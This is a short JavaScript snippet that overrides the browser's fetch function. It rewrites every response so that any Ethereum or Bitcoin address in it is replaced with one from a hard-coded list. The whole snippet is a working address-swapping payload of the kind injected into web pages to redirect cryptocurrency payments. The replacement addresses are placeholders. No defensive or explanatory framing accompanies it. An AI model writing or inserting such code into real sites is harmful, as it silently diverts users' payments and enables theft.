const own = ['0x0000000000000000000000000000000000000000', '0x0000000000000000000000000000000000000001'];
const shapes = { ethereum: /\b0x[a-fA-F0-9]{40}\b/g, bitcoin: /\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b/g };
const before = window.fetch;
window.fetch = async (...given) => {
  const answer = await before(...given);
  const text = await answer.text();
  return new Response(text.replace(shapes.ethereum, () => own[0]).replace(shapes.bitcoin, () => own[1]));
};
